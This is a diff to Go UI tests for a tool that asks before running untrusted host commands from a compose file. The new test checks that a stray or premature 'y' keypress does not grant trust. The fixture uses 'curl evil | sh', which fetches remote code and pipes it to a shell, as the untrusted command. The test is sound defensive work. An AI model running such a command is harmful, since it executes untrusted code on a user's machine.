@@ -3,6 +3,9 @@ package ui
 import (
 	"strings"
 	"testing"
+	"time"
+
+	tea "charm.land/bubbletea/v2"
 
 	"bulkhead/engine"
 	"bulkhead/engine/project"
@@ -34,6 +37,7 @@ func TestHostCommandsAreAskedAboutOnce(t *testing.T) {
 	s.keys("esc")
 	s.b.change(func(n *engine.Snapshot) { n.Untrusted = n.Untrusted[:1:1] })
 	s.wait("wants to run 1 program")
+	f.later(answerAfter)
 	s.keys("y")
 	s.gone("Run on this machine?")
 	for !f.told("trust  (you pressed y) " + f.Snapshot().Untrusted[0].ID()) {
@@ -58,6 +62,7 @@ func TestHostCommandIsShownToItsEndBeforeTheYes(t *testing.T) {
 	}
 	s.keys("g")
 	s.wait("1-20 of", "y allow")
+	f.later(answerAfter)
 	s.keys("y")
 	s.gone("Run on this machine?")
 	s.quit()
@@ -74,4 +79,41 @@ func TestReloadNamesTheHostCommandFirst(t *testing.T) {
 	})
 	s.wait("Compose file changed: web runs on this machine:", "curl evil | sh")
 	s.quit()
+}
+
+// A key that a person presses for something else is no answer to a question that comes at that moment.
+func TestKeyForSomethingElseAllowsNothing(t *testing.T) {
+	f := shop()
+	s := openScreen(t, f, 80, 24)
+	s.keys("/")
+	s.keys("r", "e", "t", "r")
+	s.b.change(func(n *engine.Snapshot) {
+		n.Untrusted = []engine.HostCommand{{Service: "web", Kind: "prepare", Place: "compose.yaml:3", Command: "curl evil | sh"}}
+	})
+	s.wait("1 host command not allowed yet")
+	s.keys("y")
+	s.wait("retry")
+	s.keys("enter")
+	s.wait("Run on this machine?", "curl evil | sh")
+	s.keys("n")
+	s.gone("Run on this machine?")
+	s.quit()
+	if f.told("trust") {
+		t.Error("it was allowed")
+	}
+	// Nor is one that comes in the moment after the question.
+	now := time.Now()
+	var allowed []string
+	d := &trustDialog{e: &env{opts: Options{Now: func() time.Time { return now }}, snap: snapshot{&engine.Snapshot{}}},
+		commands: wanting(1).snap.Untrusted, allow: func(ids []string) tea.Cmd { allowed = ids; return nil }}
+	d.render(80, 24)
+	d.key(tea.KeyPressMsg{Code: 'y', Text: "y"})
+	if allowed != nil {
+		t.Error("it was allowed as soon as it was asked")
+	}
+	now = now.Add(answerAfter)
+	d.key(tea.KeyPressMsg{Code: 'y', Text: "y"})
+	if len(allowed) != 2 {
+		t.Errorf("allowed %v", allowed)
+	}
 }
